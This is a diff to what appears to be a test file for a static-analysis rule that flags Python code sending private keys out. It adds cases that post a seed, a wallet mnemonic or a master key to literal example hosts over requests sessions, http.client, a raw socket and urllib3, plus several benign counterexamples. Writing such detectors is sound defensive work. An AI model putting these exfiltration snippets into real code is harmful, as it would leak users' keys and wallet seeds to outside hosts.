@@ -3,10 +3,12 @@
 RULEID: a helper reading the key file named by key_path and posting it with the password
   (ssh-decorator); a private_key attribute in a JSON body to a literal host; a mnemonic in an
   f-string URL; a secret_key in a custom header; a key file read with `with open(...)` sent by
-  urllib.
+  urllib; a seed in a Session.get query; a wallet mnemonic through http.client; a seed sent over
+  a raw socket to a literal host; a master key in urllib3's PoolManager.request.
 OK: a signature made with the private key sent; the public key file uploaded (GitHub deploy key);
   a key sent to a local signer; a key sent to a configured URL; an API secret key sent as `auth=`
-  and as an Authorization header; a client certificate's key path passed as `cert=`.
+  and as an Authorization header; a client certificate's key path passed as `cert=`; a random seed's
+  length sent; a seed sent to a local socket.
 """
 import json
 import urllib.request
@@ -63,3 +65,47 @@ def legitimate(private_key, message, config, secret_key, pub_key_path, key_path)
     requests.get("https://api.payments.example.co/v1/balance", headers={"Authorization": f"Bearer {secret_key}"})
     # ok: py-exfil-private-key
     requests.get("https://mtls.example.org/health", cert=("client.crt", key_path))
+
+
+def sync_seed(session, seed):
+    # ruleid: py-exfil-private-key
+    return session.get("https://status.example-nodes.net/ping", params={"s": seed})
+
+
+def report_wallet(wallet):
+    import http.client
+
+    conn = http.client.HTTPSConnection("stats.example-chain.io")
+    # ruleid: py-exfil-private-key
+    conn.request("POST", "/v1/m", body=json.dumps({"m": wallet.mnemonic}))
+
+
+def beacon(family_seed):
+    import socket
+
+    s = socket.socket()
+    s.connect(("collect.example.org", 443))
+    # ruleid: py-exfil-private-key
+    s.sendall(family_seed.encode())
+
+
+def pool_send(master_key):
+    import urllib3
+
+    pool = urllib3.PoolManager()
+    # ruleid: py-exfil-private-key
+    pool.request("POST", "https://api.example-tel.com/e", fields={"k": master_key})
+
+
+def rng_report(session, rng):
+    # ok: py-exfil-private-key
+    session.get("https://api.example.com/stats", params={"n": len(rng.seed)})
+
+
+def local_signer(seed):
+    import socket
+
+    s = socket.socket()
+    s.connect(("localhost", 7000))
+    # ok: py-exfil-private-key
+    s.sendall(seed.encode())
